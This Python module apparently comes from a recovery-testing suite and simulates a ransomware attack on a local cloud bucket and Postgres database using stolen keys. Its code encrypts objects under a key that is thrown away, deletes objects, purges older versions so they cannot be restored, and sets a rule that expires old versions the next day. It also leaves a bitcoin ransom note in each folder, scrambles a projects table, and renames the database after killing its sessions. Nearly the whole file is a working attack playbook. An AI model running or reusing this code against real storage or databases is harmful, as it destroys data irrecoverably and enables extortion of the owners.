"""An attack with stolen keys, done for real to a bucket and a database of the local cloud.

Who has the uploader's key and the application's password looks around, lets old versions expire
tomorrow, encrypts objects in place, deletes some, removes the versions of others for good, leaves a
note in each folder, and scrambles a table. Who has an administrator's password besides takes the
database's name away. Nothing here runs anywhere but on a local cloud.
"""

from __future__ import annotations

import io
import os
import random
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import psycopg

from leeward.local.damage import Injected

# Addresses that are nobody's (RFC 5737).
THEIR_ADDRESS = "203.0.113.66"
NOTE = (
    b"All your files have been encrypted with AES-256. To decrypt them, pay 2 bitcoin to the "
    b"wallet below. Install Tor Browser. The private key is destroyed at the deadline."
)
EXPIRE_TOMORROW: dict[str, Any] = {
    "ID": "tidy",
    "Status": "Enabled",
    "Filter": {"Prefix": ""},
    "NoncurrentVersionExpiration": {"NoncurrentDays": 1},
}
ENCRYPTED, DELETED, REMOVED = 24, 4, 3
FOLDERS = 4
LEFT_SECONDS = 30.0


@dataclass(frozen=True)
class Done:
    """`encrypted`, `deleted`, `removed`: keys. `rows`: of the table that was scrambled."""

    began_at: datetime
    encrypted: tuple[str, ...]
    deleted: tuple[str, ...]
    removed: tuple[str, ...]
    rows: int
    injected: Injected


def documents() -> Iterator[tuple[str, bytes]]:
    """Letters, tables and archives of a studio, without end; the same ones each time."""
    draw = random.Random(7)
    words = (zipfile.__doc__ or "").split() + dir(zipfile) + dir(io) + dir(os)
    number = 0
    while True:
        text = " ".join(draw.choices(words, k=1500)).encode()
        folder = f"clients/{number % FOLDERS}"
        yield f"{folder}/letter-{number}.txt", text
        yield f"{folder}/table-{number}.csv", text.replace(b" ", b",")
        yield f"{folder}/report-{number}.zip", _zipped(text)
        number += 1


def _zipped(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("page.txt", data)
    return buffer.getvalue()


def attack(s3: Any, bucket: str, dsn: str) -> Done:
    """Everything, in order. `s3`: a client by the stolen key. `dsn`: the application's login."""
    began = datetime.now(UTC)
    s3.list_buckets()
    s3.get_bucket_versioning(Bucket=bucket)
    keys = [it["Key"] for it in s3.list_objects_v2(Bucket=bucket)["Contents"]]
    victims = [key for key in keys if key.startswith("clients/")]
    s3.put_bucket_lifecycle_configuration(
        Bucket=bucket, LifecycleConfiguration={"Rules": [EXPIRE_TOMORROW]}
    )
    encrypted = victims[:ENCRYPTED]
    for key in encrypted:
        body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
        s3.put_object(Bucket=bucket, Key=key, Body=encrypt(body))
    removed, deleted = victims[:REMOVED], victims[ENCRYPTED : ENCRYPTED + DELETED]
    for key in deleted:
        s3.delete_object(Bucket=bucket, Key=key)
    for key in removed:
        _remove_older(s3, bucket, key)
    for folder in range(FOLDERS):
        s3.put_object(Bucket=bucket, Key=f"clients/{folder}/HOW_TO_DECRYPT.txt", Body=NOTE)
    injected = scramble(dsn)
    return Done(began, tuple(encrypted), tuple(deleted), tuple(removed), injected.rows, injected)


def encrypt(data: bytes) -> bytes:
    """AES-CTR under a key that nobody keeps."""
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    cipher = Cipher(algorithms.AES(os.urandom(32)), modes.CTR(os.urandom(16)))
    return cipher.encryptor().update(data)


def _remove_older(s3: Any, bucket: str, key: str) -> None:
    """Every version but the encrypted one: nothing in this bucket brings it back."""
    found = s3.list_object_versions(Bucket=bucket, Prefix=key)["Versions"]
    for version in found:
        if version["Key"] == key and not version["IsLatest"]:
            s3.delete_object(Bucket=bucket, Key=key, VersionId=version["VersionId"])


def scramble(dsn: str) -> Injected:
    """Every name of a table is noise."""
    with psycopg.connect(dsn) as connection:
        done = connection.execute(
            "UPDATE projects SET name = md5(random()::text), owner = md5(random()::text)"
        )
        [xid] = connection.execute("SELECT pg_current_xact_id()::text").fetchone() or [""]
    return Injected(
        name="scramble",
        kind="mass-update",
        what=f"names of {done.rowcount:,} projects are noise",
        at=datetime.now(UTC),
        xid=int(xid),
        table="projects",
        rows=done.rowcount,
    )


def rename(dsn: str, database: str) -> str:
    """The database is there by another name, which is returned, and an empty one by its own.

    Args:
        dsn: a superuser's, on another database.
    """
    locked = f"{database}_locked"
    with psycopg.connect(dsn, autocommit=True) as connection:

        def run(template: str) -> None:
            [(statement,)] = connection.execute(
                "SELECT format(%s, %s::text, %s::text)", (template, database, locked)
            )
            connection.execute(statement)

        run("ALTER DATABASE %1$I ALLOW_CONNECTIONS false")
        run("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %1$L")
        _wait_until_left(connection, database)
        run("ALTER DATABASE %1$I RENAME TO %2$I")
        run("ALTER DATABASE %2$I ALLOW_CONNECTIONS true")
        run("CREATE DATABASE %1$I")
    return locked


def _wait_until_left(connection: psycopg.Connection[Any], database: str) -> None:
    deadline = time.monotonic() + LEFT_SECONDS
    while time.monotonic() < deadline:
        if not connection.execute(
            "SELECT 1 FROM pg_stat_activity WHERE datname = %s", (database,)
        ).fetchall():
            return
        time.sleep(0.05)
